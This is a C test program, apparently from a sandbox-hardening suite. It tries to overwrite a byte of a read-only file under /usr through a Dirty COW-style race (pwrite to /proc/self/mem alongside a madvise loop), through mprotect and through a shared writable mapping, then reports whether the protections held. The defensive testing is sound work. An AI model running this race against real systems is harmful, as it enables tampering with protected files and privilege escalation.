/* Writes to read-only pages of a file of /usr: through /proc/self/mem, which
 * ignores protection, with MADV_DONTNEED next to it in a loop, which was Dirty COW
 * (CVE-2016-5195); and by a mapping that is made writable. The byte that is
 * written is another one, in a file that nobody executes. What must stop it:
 * /proc is read-only, the file's pages are copied before a write. */
#include "attack.h"
#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/stat.h>

static char *map;
static volatile int done;

static void *drop(void *unused)
{
	while (!done)
		madvise(map, 4096, MADV_DONTNEED);
	return unused;
}

int main(void)
{
	pthread_t dropper;
	char before, after, other;
	int file = open("/usr/lib/os-release", O_RDONLY);
	if (file < 0)
		file = open(host_file(), O_RDONLY); /* a copy */
	if (file < 0 || pread(file, &before, 1, 0) != 1)
		held("no file: %s", strerror(errno));
	other = before ^ 1;
	map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
	int mem = open("/proc/self/mem", O_RDWR), task = open("/proc/thread-self/mem", O_WRONLY);
	printf("/proc/self/mem: %d, %d\n", mem, task);
	if (mem >= 0 && pthread_create(&dropper, NULL, drop, NULL) == 0) {
		for (int i = 0; i < 20000; i++)
			if (pwrite(mem, &other, 1, (uintptr_t)map) != 1)
				break;
		done = 1;
		pthread_join(dropper, NULL);
	}
	/* A private mapping may be made writable; its page must be a copy. */
	if (mprotect(map, 4096, PROT_READ | PROT_WRITE) == 0)
		*map = other;
	if (mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0) != MAP_FAILED)
		broke("a shared writable mapping of /usr");
	if (pread(file, &after, 1, 0) != 1 || after != before) {
		if (mem >= 0 && pwrite(mem, &before, 1, (uintptr_t)map) == 1) /* as it was */
			printf("put back\n");
		broke("the file in /usr was written");
	}
	if (mem >= 0 || task >= 0)
		broke("/proc/self/mem can be written");
	held("the file is as it was");
}
